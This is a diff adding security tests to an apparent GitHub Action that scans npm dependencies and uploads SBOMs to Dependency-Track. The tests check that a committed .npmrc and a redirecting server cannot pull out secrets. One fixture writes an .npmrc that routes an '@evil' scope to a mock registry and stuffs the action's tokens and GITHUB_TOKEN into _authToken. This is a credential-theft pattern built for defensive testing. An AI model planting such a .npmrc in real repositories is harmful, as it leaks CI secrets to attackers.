@@ -8,7 +8,8 @@ import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { REPO, SHARED_FIXTURES, tempDir } from './helpers.js';
-import { projectWith } from './enrich/helpers.js';
+import { projectWith, versionDoc } from './enrich/helpers.js';
+import { startProxy } from './enrich/proxy-server.js';
 import { startRegistry, type RegistryServer } from './enrich/registry-server.js';
 
 let server: RegistryServer;
@@ -24,13 +25,13 @@ function files(dir: string): string[] {
   return readdirSync(dir).flatMap((f) => (statSync(join(dir, f)).isDirectory() ? files(join(dir, f)).map((x) => join(f, x)) : [f])).sort();
 }
 
-function runAction(inputs: Record<string, string>, workspace: string): Promise<{ code: number | null; stdout: string; outputs: Record<string, string>; summary: string }> {
+function runAction(inputs: Record<string, string>, workspace: string, extraEnv: NodeJS.ProcessEnv = {}): Promise<{ code: number | null; stdout: string; outputs: Record<string, string>; summary: string }> {
   const dir = tempDir();
   const output = join(dir, 'output');
   const summary = join(dir, 'summary');
   writeFileSync(output, '');
   writeFileSync(summary, '');
-  const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, HOME: dir, GITHUB_ACTIONS: 'true', GITHUB_WORKSPACE: workspace, GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary };
+  const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, HOME: dir, GITHUB_ACTIONS: 'true', GITHUB_WORKSPACE: workspace, GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: summary, ...extraEnv };
   for (const [k, v] of Object.entries(inputs)) env[`INPUT_${k.toUpperCase()}`] = v;
   return new Promise((resolve) => {
     const child = spawn(process.execPath, [join(REPO, 'dist', 'index.mjs')], { cwd: workspace, env });
@@ -110,6 +111,78 @@ describe('the GitHub Action', () => {
     expect(r.stdout).toContain('::add-mask::odt_ACTIONKEY');
     expect(r.stdout.replace('::add-mask::odt_ACTIONKEY', '')).not.toContain('ACTIONKEY');
     expect(r.stdout).toContain('uploaded the SBOM to Dependency-Track project shop');
+  });
+
+  it("sends none of its inputs or the workflow's token to a registry or proxy a committed .npmrc names", async () => {
+    const evil = await startRegistry({ '/@evil/x/1.0.0': { kind: 'json', body: versionDoc('@evil/x', '1.0.0') } });
+    const proxy = await startProxy();
+    try {
+      const workspace = projectWith([['@evil/x', '1.0.0'], ['core-js', '3.6.5']]);
+      writeFileSync(join(workspace, '.npmrc'), `@evil:registry=${evil.url}\n//${evil.host}/:_authToken=\${INPUT_TOKEN}|\${INPUT_DEPENDENCY-TRACK-API-KEY}|\${GITHUB_TOKEN}\nproxy=${proxy.url}\n`);
+      const secrets = ['npm_INPUTtoken_123', 'odt_INPUTkey_456', 'ghs_WORKFLOWtoken_789'];
+      const r = await runAction({ registry: server.url, token: secrets[0]!, 'dependency-track-api-key': secrets[1]!, 'cache-dir': join(tempDir(), 'cache') }, workspace, { GITHUB_TOKEN: secrets[2] });
+      expect(r.code).toBe(0);
+      expect(evil.requests.map((q) => q.path)).toContain('/@evil/x/1.0.0');
+      for (const request of evil.requests) {
+        expect(request.headers.authorization).toBeUndefined();
+        for (const secret of secrets) expect(JSON.stringify(request.headers)).not.toContain(secret);
+      }
+      expect(proxy.requests).toEqual([]);
+      // The token input still reaches the registry input, and only it.
+      expect(server.requests.findLast((q) => q.path === '/core-js/3.6.5')?.headers.authorization).toBe(`Bearer ${secrets[0]}`);
+      expect(r.stdout).toMatch(/^::warning::.*reads the environment variable INPUT_TOKEN, which the scanned project may not read/m);
+      expect(r.stdout).toMatch(/^::warning::.*reads the environment variable GITHUB_TOKEN/m);
+      expect(r.stdout).toMatch(/^::warning::proxy in .*\.npmrc names a proxy .* ignored/m);
+      // Even allowed by name, an input is out of reach: it left the environment before any file was read.
+      const allowed = await runAction({ registry: server.url, token: secrets[0]!, 'dependency-track-api-key': secrets[1]!, 'allow-env': 'INPUT_TOKEN, INPUT_DEPENDENCY-TRACK-API-KEY', 'allowed-registries': evil.url, 'cache-dir': join(tempDir(), 'cache') }, workspace, { GITHUB_TOKEN: secrets[2] });
+      expect(allowed.code).toBe(0);
+      expect(evil.requests.findLast((q) => q.path === '/@evil/x/1.0.0')?.headers.authorization).toBe('Bearer ||');
+    } finally {
+      await evil.close();
+      await proxy.close();
+    }
+  });
+
+  it('keeps the NODE_AUTH_TOKEN pattern working: setup-node\'s npmrc, or a committed one for an allowed registry', async () => {
+    const corp = await startRegistry({ '/@corp/lib/1.0.0': { kind: 'json', body: versionDoc('@corp/lib', '1.0.0') } });
+    try {
+      const lines = `@corp:registry=${corp.url}\n//${corp.host}/:_authToken=\${NODE_AUTH_TOKEN}\n`;
+      const env = { NODE_AUTH_TOKEN: 'ghp_NODEAUTH_1' };
+      // actions/setup-node with registry-url writes this to a user npmrc outside the workspace.
+      const userConfig = join(tempDir(), '.npmrc');
+      writeFileSync(userConfig, lines);
+      const viaSetupNode = await runAction({ registry: server.url, 'cache-dir': join(tempDir(), 'cache') }, projectWith([['@corp/lib', '1.0.0']]), { ...env, NPM_CONFIG_USERCONFIG: userConfig });
+      expect(viaSetupNode.code).toBe(0);
+      const committed = projectWith([['@corp/lib', '1.0.0']]);
+      writeFileSync(join(committed, '.npmrc'), lines);
+      const viaCommitted = await runAction({ registry: server.url, 'allowed-registries': corp.url, 'cache-dir': join(tempDir(), 'cache') }, committed, env);
+      expect(viaCommitted.code).toBe(0);
+      expect(corp.requests.filter((q) => q.path === '/@corp/lib/1.0.0').map((q) => q.headers.authorization)).toEqual(['Bearer ghp_NODEAUTH_1', 'Bearer ghp_NODEAUTH_1']);
+      expect(viaCommitted.stdout).not.toMatch(/^::warning::/m);
+    } finally {
+      await corp.close();
+    }
+  });
+
+  it('fails the upload, not the policy, when Dependency-Track redirects to another origin', async () => {
+    const { createServer } = await import('node:http');
+    const stolen: string[] = [];
+    const elsewhere = createServer((req, res) => {
+      stolen.push(`${req.method} ${String(req.headers['x-api-key'])}`);
+      res.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"t-1","processing":false}');
+    });
+    await new Promise<void>((r) => elsewhere.listen(0, '127.0.0.1', r));
+    const target = `http://127.0.0.1:${(elsewhere.address() as { port: number }).port}`;
+    const dt = createServer((req, res) => res.writeHead(302, { location: `${target}${req.url}` }).end());
+    await new Promise<void>((r) => dt.listen(0, '127.0.0.1', r));
+    const dtUrl = `http://127.0.0.1:${(dt.address() as { port: number }).port}`;
+    const r = await runAction({ registry: server.url, 'cache-dir': join(tempDir(), 'cache'), 'dependency-track-url': dtUrl, 'dependency-track-api-key': 'odt_ACTIONKEY', 'dependency-track-project': 'shop' }, projectWith([['core-js', '3.6.5']]));
+    await new Promise((res) => dt.close(res));
+    await new Promise((res) => elsewhere.close(res));
+    expect(r.code).toBe(2);
+    expect(stolen).toEqual([]);
+    expect(r.stdout).toMatch(/^::error::Dependency-Track upload failed \(HTTP 302\): the server redirects to http:\/\/127\.0\.0\.1:\d+/m);
+    expect(r.stdout).not.toContain('uploaded the SBOM');
   });
 
   it('reports bad input as a failed step', async () => {
